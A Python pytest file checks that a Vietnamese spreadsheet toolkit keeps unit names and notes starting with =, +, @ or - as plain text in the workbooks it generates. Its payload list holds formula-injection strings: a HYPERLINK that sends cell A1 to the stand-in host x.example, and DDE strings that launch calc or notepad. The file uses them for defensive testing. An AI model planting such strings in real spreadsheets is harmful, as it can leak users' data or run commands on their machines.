"""Names and Giải trình that begin with =, +, @ or - stay text in every workbook the toolkit writes:
template --units, template --xlsm, import of a folder of forms, publish's _phu_luc.xlsx, and
`macro tinh-lai` moving rows. Every generated workbook is scanned for formulas we did not generate."""
from pathlib import Path

import pytest
from office_samples import write_forms
from openpyxl import load_workbook

from xltools.celltext import Formula, put
from xltools.cli import main
from xltools.workbook.reader import read_workbook

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "=cmd|' /C calc'!A0", "+SUM(1;2)", "@SUM(1,2)",
            "-2+3 Sở", "=1+1"]
MARKERS = ("HYPERLINK", "cmd|", "SUM(1;2)", "SUM(1,2)", "2+3 Sở")  # parts of payloads no generated formula holds
SEED = "phu_luc_backan_2024_so_huyen.txt"
UNITS = ["Văn phòng UBND tỉnh", "Sở Tư pháp", "Sở Kế hoạch và Đầu tư", "Sở Nông nghiệp và PTNT", "Sở Công Thương",
         "Sở Nội vụ"]


def formulas_not_ours(path: Path) -> list[str]:
    """Formulas holding a payload's marker, apart from the Kiểm tra sheet's links to the cells its findings
    cite (=HYPERLINK("#'Tổng hợp Sở'!D7","Tổng hợp Sở!D7"), made from a sheet name and a cell reference)."""
    from xltools.excel.book import finding_where, link_label

    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}: {c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" and (any(m in str(c.value) for m in MARKERS) or c.value in PAYLOADS)
            and not (ws.title == "Kiểm tra" and finding_where(link_label(c.value)) == c.value)]


def texts(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "s" and isinstance(c.value, str)}


@pytest.fixture
def hostile_units(tmp_path, data_dir) -> Path:
    text = (data_dir / SEED).read_text(encoding="utf-8")
    for name, payload in zip(UNITS, PAYLOADS):
        text = text.replace(f"\t{name}\t", f"\t{payload}\t", 1)
    path = tmp_path / "don_vi.txt"
    path.write_text(text, encoding="utf-8")
    return path


def run(*argv) -> int:
    return main([str(a) for a in argv])


def test_put_writes_text_as_text_and_formulas_as_formulas(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    put(ws["A1"], "=1+1")
    put(ws["A2"], Formula("=1+1"))
    put(ws["A3"], "tên\x01 có ký tự điều khiển")
    wb.save(tmp_path / "a.xlsx")
    ws = load_workbook(tmp_path / "a.xlsx").active
    assert [(c.value, c.data_type) for c in (ws["A1"], ws["A2"], ws["A3"])] == [
        ("=1+1", "s"), ("=1+1", "f"), ("tên có ký tự điều khiển", "s")]


def test_template_units_and_tinh_lai_keep_names_and_notes_as_text(tmp_path, hostile_units, capsys):
    out = tmp_path / "bang.xlsx"
    assert run("template", "--set", "backan-2024-so", "--units", hostile_units, "-o", out, "--with-appraised") == 0
    assert formulas_not_ours(out) == []
    assert set(PAYLOADS) <= texts(out)
    wb = load_workbook(out)  # an appraiser's note that begins with "="
    from xltools import catalog
    from xltools.workbook import layout as L

    summary = L.workbook_layout([(catalog.get("backan-2024-so"), 24)]).sections[0].summary
    put(wb[summary.sheet].cell(summary.first_row, summary.note), "=cmd|' /C notepad'!A0 giải trình")
    wb.save(out)
    assert run("macro", "tinh-lai", out) == 0
    capsys.readouterr()
    assert formulas_not_ours(out) == []
    assert set(PAYLOADS) | {"=cmd|' /C notepad'!A0 giải trình"} <= texts(out)
    names = {u.name for u in read_workbook(out)[0].units}
    assert set(PAYLOADS) <= names  # read back as the names they are, not as blanks


def test_template_xlsm_keeps_names_as_text(tmp_path, hostile_units, capsys):
    out = tmp_path / "bang.xlsm"
    assert run("template", "--set", "backan-2024-so", "--units", hostile_units, "--xlsm", "-o", out) == 0
    assert formulas_not_ours(out) == [] and set(PAYLOADS) <= texts(out)


def test_published_appendix_keeps_names_as_text(tmp_path, hostile_units, capsys):
    assert run("publish", hostile_units, "-o", tmp_path / "ra") in (0, 1)  # 1: written as a draft (DỰ THẢO)
    [xlsx] = (tmp_path / "ra").glob("*_phu_luc.xlsx")
    assert formulas_not_ours(xlsx) == [] and set(PAYLOADS) <= texts(xlsx)


def test_import_of_forms_keeps_unit_names_and_explanations_as_text(tmp_path, data_dir, capsys):
    seed = data_dir / "bieu_tu_danh_gia_bacgiang_2023_tinh.txt"
    text = seed.read_text(encoding="utf-8").replace("Hoàn thành 100% Kế hoạch", PAYLOADS[1], 1)
    hostile = tmp_path / "bieu.txt"
    hostile.write_text(text, encoding="utf-8")
    folder = tmp_path / "bieu"
    write_forms(folder, 2, hostile, kinds=("docx",))
    import docx

    for path, name in zip(sorted(folder.iterdir()), PAYLOADS):  # the unit's name as its own form gives it
        document = docx.Document(str(path))
        paragraph = next(p for p in document.paragraphs if p.text.startswith("Đơn vị:"))
        paragraph.runs[0].text = f"Đơn vị: {name}"
        document.save(str(path))
    out = tmp_path / "tong_hop.xlsx"
    assert run("import", folder, "--set", "bacgiang-2023-tinh", "-o", out) == 0, capsys.readouterr()
    assert formulas_not_ours(out) == []
    found = texts(out)
    assert PAYLOADS[1] in found and any(t.startswith(PAYLOADS[0]) or t == PAYLOADS[0] for t in found), found - set()
